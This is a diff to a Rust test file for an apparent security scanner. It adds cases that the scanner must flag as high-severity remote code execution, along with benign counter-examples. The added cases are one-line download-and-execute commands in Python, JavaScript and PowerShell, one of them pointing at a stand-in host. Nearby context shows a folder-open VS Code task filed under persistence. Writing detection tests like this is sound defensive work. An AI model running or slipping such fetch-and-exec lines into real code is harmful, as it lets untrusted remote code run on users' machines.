@@ -591,10 +591,27 @@ fn network_and_start_up_reached_without_a_library() {
             "tasks = {'label': 'prefetch', 'runOn': 'folderOpen', 'command': 'node .vscode/prefetch.js'}\n",
             "persist/scheduler",
         ),
+        (
+            "x.sh",
+            "python3 -c \"import urllib.request as u;exec(u.urlopen('https://r.example.dev/r').read())\"\n",
+            "exec/remote-code",
+        ),
+        (
+            "a.mjs",
+            "new Function(await (await fetch(src)).text())();\n",
+            "exec/remote-code",
+        ),
+        (
+            "a.ps1",
+            "iex (New-Object Net.WebClient).DownloadString($u)\n",
+            "exec/remote-code",
+        ),
     ] {
         let found = run(FileKind::Script, path, code);
         assert!(level(rule, &found) >= Some(Severity::High), "{code}: {found:?}");
     }
+    let data = run(FileKind::Script, "a.py", "cfg = json.loads(urlopen(u).read())\n");
+    assert_eq!(level("exec/remote-code", &data), None, "{data:?}");
     let own = run(FileKind::Script, "a.js", "const rows = store.fetch(query);\n");
     assert_eq!(level("net/http-client", &own), None, "{own:?}");
 }
